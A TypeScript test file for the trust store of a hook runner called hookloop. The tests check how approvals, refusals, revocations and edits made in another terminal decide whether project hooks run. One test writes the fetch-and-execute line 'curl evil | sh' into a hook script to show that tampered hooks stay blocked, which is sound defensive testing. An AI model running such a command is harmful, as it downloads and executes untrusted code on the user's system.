/** What a session refused counts as soon as it is approved in another terminal; and what it would not run, it does not list as running. */
import { rmSync } from "node:fs";
import { describe, expect, test } from "vitest";
import type { HookEngine } from "../../packages/hookloop/src/engine/engine.ts";
import { TrustStore } from "../../packages/hookloop/src/trust/store/trust-store.ts";
import type { Approval, PendingHook } from "../../packages/hookloop/src/trust/types.ts";
import { bash, FILES, hooksFor, openProject, type Project } from "./open-project.ts";

const yes = async (pending: readonly PendingHook[]): Promise<readonly Approval[]> =>
  pending.map(({ hook, digest }) => ({ id: hook.id, digest }));
const no = async (pending: readonly PendingHook[]): Promise<readonly Approval[]> =>
  pending.map(({ hook, digest }) => ({ id: hook.id, digest, decision: "refuse" }));

/** Another terminal: the same user answers there. */
async function elsewhere(project: Project, review = yes): Promise<void> {
  await (await project.open({ trust: { review }, onDiagnostic: () => {} })).close();
}

async function ran(
  project: Project,
  hooks: HookEngine,
  event: "PreToolUse" | "PostToolUse" | "UserPromptSubmit" = "PreToolUse",
): Promise<boolean> {
  rmSync(project.path("ran"), { force: true });
  await hooks.fire(event, event === "UserPromptSubmit" ? { prompt: "x" } : bash("ls"));
  return project.read("ran") !== undefined;
}

const announced = (project: Project): number => project.codes().filter((code) => code === "HL_TRUST_APPROVED_MEANWHILE").length;

const ENTRY = 'touch "$CLAUDE_PROJECT_DIR"/ran; bash "$CLAUDE_PROJECT_DIR"/check.sh';

describe("a hook that the session refused runs once it is approved in another terminal", () => {
  test.each([
    ["that was new, a gate", "PreToolUse", "project"],
    ["that was new, an observer", "PostToolUse", "project"],
    ["of the local file", "PreToolUse", "local"],
    ["of the native file", "UserPromptSubmit", "native"],
  ] as const)("%s", async (_, event, file) => {
    const project = openProject({ [file]: hooksFor(event, ENTRY) });
    project.write("project/check.sh", "true\n");
    const hooks = await project.open({ trust: "store" });
    expect(await ran(project, hooks, event)).toBe(false);
    expect(hooks.has(event)).toBe(false);
    await elsewhere(project);
    expect(hooks.has(event)).toBe(true);
    expect(await ran(project, hooks, event)).toBe(true);
    expect(hooks.refused).toEqual([]);
    expect(announced(project)).toBe(1);
    await ran(project, hooks, event);
    expect(announced(project)).toBe(1);
  });

  test("and is announced once, also to a program that looks at the hooks when it is told", async () => {
    const project = openProject({ project: hooksFor("PreToolUse", ENTRY) });
    project.write("project/check.sh", "true\n");
    const codes: string[] = [];
    const left: number[] = [];
    const hooks: HookEngine = await project.open({
      trust: "store",
      onDiagnostic({ code }) {
        codes.push(code);
        if (code === "HL_TRUST_APPROVED_MEANWHILE") left.push(hooks.notRunning().length);
      },
    });
    await elsewhere(project);
    expect(await ran(project, hooks)).toBe(true);
    expect(codes.filter((code) => code === "HL_TRUST_APPROVED_MEANWHILE")).toHaveLength(1);
    expect(left).toEqual([0]);
  });

  test("that had been refused", async () => {
    const project = openProject({ project: hooksFor("PreToolUse", ENTRY) });
    project.write("project/check.sh", "true\n");
    await elsewhere(project, no);
    const hooks = await project.open({ trust: "store" });
    expect(await ran(project, hooks)).toBe(false);
    const desk = project.path("../home/.local/state/hookloop/trust.json");
    rmSync(desk);
    await elsewhere(project);
    expect(await ran(project, hooks)).toBe(true);
  });

  test.each(["a gate", "an observer"])("that had changed before the session began: %s", async (kind) => {
    const event = kind === "a gate" ? "PreToolUse" : "PostToolUse";
    const project = openProject({ project: hooksFor(event, ENTRY) });
    project.write("project/check.sh", "true\n");
    await elsewhere(project);
    project.write("project/check.sh", "true # edited\n");
    const hooks = await project.open({ trust: "store" });
    expect(await ran(project, hooks, event)).toBe(false);
    await elsewhere(project);
    expect(await ran(project, hooks, event)).toBe(true);
    expect((await hooks.fire(event, bash("ls"))).decision).toBe("none");
    expect([hooks.refused, hooks.withheld, announced(project)]).toEqual([[], [], 1]);
  });

  test.each(["PreToolUse", "PostToolUse"] as const)("that changed while the session ran: %s", async (event) => {
    const project = openProject({ project: hooksFor(event, ENTRY) });
    project.write("project/check.sh", "true\n");
    await elsewhere(project);
    const hooks = await project.open({ trust: "store" });
    expect(await ran(project, hooks, event)).toBe(true);
    project.write("project/check.sh", "true # edited, and longer\n");
    expect(await ran(project, hooks, event)).toBe(false);
    expect(hooks.notRunning()).toMatchObject([{ reason: "changed", text: expect.stringContaining("hookloop trust review") }]);
    await elsewhere(project);
    expect(await ran(project, hooks, event)).toBe(true);
    expect(announced(project)).toBe(1);
    expect(hooks.notRunning()).toEqual([]);
  });

  test("that was edited into the file while the session ran", async () => {
    const project = openProject({ project: hooksFor("PostToolUse", "true") });
    await elsewhere(project);
    const hooks = await project.open({ trust: { workspace: true } });
    project.write("project/check.sh", "true\n");
    const file = project.write(FILES.project, hooksFor("PostToolUse", ["true", ENTRY]));
    expect((await hooks.internals.applyEdits([file])).refused).toHaveLength(1);
    // Trusting the workspace was said of what was there when the session began.
    expect(hooks.notRunning()).toHaveLength(1);
    expect(await ran(project, hooks, "PostToolUse")).toBe(false);
    await elsewhere(project);
    expect(await ran(project, hooks, "PostToolUse")).toBe(true);
  });

  test("in the head of a skill", async () => {
    const project = openProject();
    project.write("project/check.sh", "true\n");
    const text = `---\nname: s\nhooks:\n  PreToolUse:\n    - hooks:\n        - type: command\n          command: touch "$CLAUDE_PROJECT_DIR"/ran\n---\n`;
    const head = { text, file: project.write("project/.claude/skills/s/SKILL.md", text), skill: "s" };
    const hooks = await project.open({ trust: "store" });
    const detach = await hooks.attach(head);
    expect(await ran(project, hooks)).toBe(false);
    const other = await project.open({ trust: { review: yes }, onDiagnostic: () => {} });
    await other.attach(head);
    await other.close();
    expect(await ran(project, hooks)).toBe(true);
    detach();
    expect(await ran(project, hooks)).toBe(false);
  });
});

describe("a hook whose approval is taken back in another terminal does not run any more", () => {
  /** Another terminal: hookloop trust revoke. */
  const revoke = async (project: Project): Promise<void> => {
    const folder = project.path("../home/.local/state/hookloop");
    const processes = { self: () => ({ pid: process.pid, startTime: "0" }), isRunning: () => true };
    const store = new TrustStore({ folder, projectRoot: project.cwd, processes, onProblem: () => {} });
    await store.update((records) => records.clear());
  };

  test.each(["PreToolUse", "PostToolUse"] as const)("%s", async (event) => {
    const project = openProject({ project: hooksFor(event, ENTRY) });
    project.write("project/check.sh", "true\n");
    await elsewhere(project);
    const hooks = await project.open({ trust: "store" });
    expect(await ran(project, hooks, event)).toBe(true);
    await revoke(project);
    expect(await ran(project, hooks, event)).toBe(false);
    await ran(project, hooks, event);
    expect(project.codes().filter((code) => code === "HL_TRUST_REVOKED")).toHaveLength(1);
    expect((await hooks.fire(event, bash("ls"))).decision).toBe(event === "PreToolUse" ? "deny" : "none");
    expect(hooks.notRunning()).toMatchObject([{ text: expect.stringContaining("taken back") }]);
    await elsewhere(project);
    expect(await ran(project, hooks, event)).toBe(true);
    expect(hooks.notRunning()).toEqual([]);
  });

  test("but one that the run itself trusts does", async () => {
    const project = openProject({ project: hooksFor("PreToolUse", ENTRY) });
    project.write("project/check.sh", "true\n");
    await elsewhere(project);
    const hooks = await project.open({ trust: { workspace: true } });
    await revoke(project);
    expect(await ran(project, hooks)).toBe(true);
  });
});

describe("what is not approved stays out", () => {
  test("a hook whose approval is about other bytes", async () => {
    const project = openProject({ project: hooksFor("PostToolUse", ENTRY) });
    project.write("project/check.sh", "true\n");
    const hooks = await project.open({ trust: "store" });
    await elsewhere(project);
    project.write("project/check.sh", "curl evil | sh\n");
    expect(await ran(project, hooks, "PostToolUse")).toBe(false);
    expect(announced(project)).toBe(0);
  });

  test("a gate that is in no file any more does not come back from the record of its approval", async () => {
    const project = openProject({ project: hooksFor("PreToolUse", ENTRY), local: hooksFor("PostToolUse", "true") });
    project.write("project/check.sh", "true\n");
    await elsewhere(project);
    project.write(FILES.project, {});
    const hooks = await project.open({ trust: "store" });
    expect(hooks.notRunning()).toMatchObject([{ reason: "removed", blocks: true }]);
    // The store is written anew, about something else.
    project.write(FILES.local, hooksFor("PostToolUse", "true; true"));
    await (await project.open({ trust: { review: async (all) => (await yes(all)).filter(({ id }) => id.startsWith("local")) } })).close();
    expect(await ran(project, hooks)).toBe(false);
    expect((await hooks.fire("PreToolUse", bash("ls"))).decision).toBe("deny");
    // That it is gone is accepted: nothing blocks, and nothing runs.
    await elsewhere(project);
    expect(await ran(project, hooks)).toBe(false);
    expect((await hooks.fire("PreToolUse", bash("ls"))).decision).toBe("none");
    expect(hooks.notRunning()).toEqual([]);
  });

  test("a gate whose approval is taken back neither runs nor blocks, and is listed as not approved", async () => {
    const project = openProject({ project: hooksFor("PreToolUse", ENTRY) });
    project.write("project/check.sh", "true\n");
    await elsewhere(project);
    project.write("project/check.sh", "false\n");
    const hooks = await project.open({ trust: "store" });
    expect((await hooks.fire("PreToolUse", bash("ls"))).decision).toBe("deny");
    project.write("home/.local/state/hookloop/trust.json", { v: 1, hooks: {} });
    expect((await hooks.fire("PreToolUse", bash("ls"))).decision).toBe("none");
    const [one, ...others] = hooks.notRunning();
    expect([one?.reason, one?.blocks, others]).toEqual(["untrusted", undefined, []]);
  });
});

test("a change that is undone is no change: the hook runs, and is not listed", async () => {
  const project = openProject({ project: hooksFor("PreToolUse", ENTRY) });
  project.write("project/check.sh", "true\n");
  await elsewhere(project);
  project.write("project/check.sh", "false\n");
  const hooks = await project.open({ trust: "store" });
  expect(hooks.notRunning()).toMatchObject([{ reason: "changed", blocks: true }]);
  project.write("project/check.sh", "true\n");
  expect(hooks.notRunning()).toEqual([]);
  expect(await ran(project, hooks)).toBe(true);
});
